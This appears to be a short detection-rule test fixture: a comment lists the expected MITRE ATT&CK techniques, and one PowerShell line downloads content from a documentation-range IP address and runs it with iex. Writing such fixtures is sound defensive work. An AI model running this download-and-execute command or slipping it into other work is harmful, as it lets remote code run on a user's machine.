# expect: T1059.001 T1105
& powershell -c {iex (iwr http://198.51.100.1/x -UseBasicParsing)}
